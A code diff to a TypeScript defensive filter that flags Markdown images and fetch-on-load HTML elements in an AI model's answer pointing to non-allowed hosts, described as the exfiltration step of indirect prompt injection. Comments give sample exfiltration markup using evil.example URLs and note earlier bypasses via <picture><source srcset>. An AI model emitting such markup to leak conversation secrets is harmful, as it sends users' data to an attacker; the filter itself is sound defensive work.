@@ -1,7 +1,7 @@
 /**
  * Images an answer asks its reader's client to fetch from a host outside the allowed ones: a Markdown image
- * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`) or an HTML `<img
- * src>` or `srcset`. A host that renders the answer fetches it at once, no click needed, so a model led to put
+ * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`), an HTML `<img
+ * src>` or `srcset`, or another element a page fetches as it loads (FETCHED_BY). A host that renders the answer fetches it at once, no click needed, so a model led to put
  * the conversation's secrets into its URL sends them to that host: the exfiltration step of an indirect
  * prompt injection. Before 2026-12-06 such an image passed every action.
  * An image in Markdown's code (a fenced block, a code span: markdown-code.ts) is shown as written and
@@ -16,9 +16,29 @@ const INLINE = /!\[(?:[^\][]|\[[^\][]*\])*\]\(\s*(?:<([^<>\n]*)>|([^\s()]+(?:\([
  * An HTML image's tag, group 1 its attributes, read as hidden-markup.ts reads a tag's: a quoted value to
  * its closing quote, so `<img alt="a>b" src=…>` is one tag (before 2026-12-06 it was no image).
  */
-const IMG = /<img(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/gi;
-/** The attributes an image is fetched by: group 1 the name, 2–4 the value, quoted or not. */
-const SOURCE = /(?:^|[\s/"'])(src|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>]+))/gi;
+const IMG = /<(img|source|video|audio|track|input|image|iframe|embed|object)(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/gi;
+/** Only text with one of these tags can hold such an element. */
+const FETCHING = /<(?:img|source|video|audio|track|input|image|iframe|embed|object)[\s/>]/i;
+/** The attributes an element is fetched by: group 1 the name, 2–4 the value, quoted or not. */
+const SOURCE = /(?:^|[\s/"'])(src|srcset|poster|data|href|xlink:href)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>]+))/gi;
+/**
+ * Which of those attributes each element is fetched by as the page loads, no click needed: a <picture>'s or a
+ * media element's <source>, a video's poster, a media element's or a track's src, an <input type="image">,
+ * SVG's <image href>, a frame, an embed, an object's data. Before 2026-12-06 only <img> was read, and
+ * `<picture><source srcset="https://evil.example/?d=…">` passed.
+ */
+const FETCHED_BY: Readonly<Record<string, RegExp>> = {
+  img: /^(?:src|srcset)$/,
+  source: /^(?:src|srcset)$/,
+  video: /^(?:src|poster)$/,
+  audio: /^src$/,
+  track: /^src$/,
+  input: /^src$/,
+  image: /^(?:href|xlink:href)$/,
+  iframe: /^src$/,
+  embed: /^src$/,
+  object: /^data$/,
+};
 /** A base the checks resolve against, of either scheme (a host page's may be http or https): its own host is no other. */
 const BASE_HOST = 'base.invalid';
 const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
@@ -60,12 +80,17 @@ function allowedHost(host: string, allowed: readonly string[]): boolean {
   return false;
 }
 
-/** Whether an `<img>`'s attributes have it fetched from a host not allowed: its `src`, or any candidate of its `srcset`. */
-function outsideImg(attributes: string, allowed: readonly string[]): boolean {
+/** Whether an element's attributes have it fetched from a host not allowed: its `src` (or FETCHED_BY's), or any candidate of its `srcset`. */
+function outsideImg(tag: string, attributes: string, allowed: readonly string[]): boolean {
+  const fetchedBy = FETCHED_BY[tag.toLowerCase()]!;
+  // An <input> fetches its src only as an image button.
+  if (fetchedBy === FETCHED_BY.input && !/(?:^|[\s/"'])type\s*=\s*["']?image\b/i.test(attributes)) return false;
   for (const m of attributes.matchAll(SOURCE)) {
+    const name = m[1]!.toLowerCase();
+    if (!fetchedBy.test(name)) continue;
     const value = m[2] ?? m[3] ?? m[4] ?? '';
     // A srcset's candidates: URLs and their descriptors (`2x`, `100w`, relative, so never outside).
-    const urls = m[1]!.toLowerCase() === 'src' ? [value] : value.split(/[\s,]+/);
+    const urls = name !== 'srcset' ? [value] : value.split(/[\s,]+/);
     if (urls.some((u) => outsideImage(u, allowed))) return true;
   }
   return false;
@@ -73,7 +98,7 @@ function outsideImg(attributes: string, allowed: readonly string[]): boolean {
 
 /** Only text with one of these can hold an image. */
 export function mayHoldImage(s: string): boolean {
-  return s.includes('![') || /<img/i.test(s);
+  return s.includes('![') || FETCHING.test(s);
 }
 
 /**
@@ -86,7 +111,7 @@ export function outsideImages(s: string, allowed: readonly string[], html = fals
   const shownAsCode = (at: number): boolean => within((code ??= html || !(s.includes('`') || s.includes('~~~')) ? [] : markdownCode(s)), at);
   const spans: Array<[number, number]> = [];
   for (const m of s.matchAll(INLINE)) if (outsideImage(m[1] ?? m[2] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
-  for (const m of s.matchAll(IMG)) if (outsideImg(m[1]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
+  for (const m of s.matchAll(IMG)) if (outsideImg(m[1]!, m[2]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
   const labels = new Set<string>();
   for (const m of s.matchAll(REFERENCE)) if (!shownAsCode(m.index)) labels.add(label(m[2] || m[1]!));
   if (labels.size > 0) {
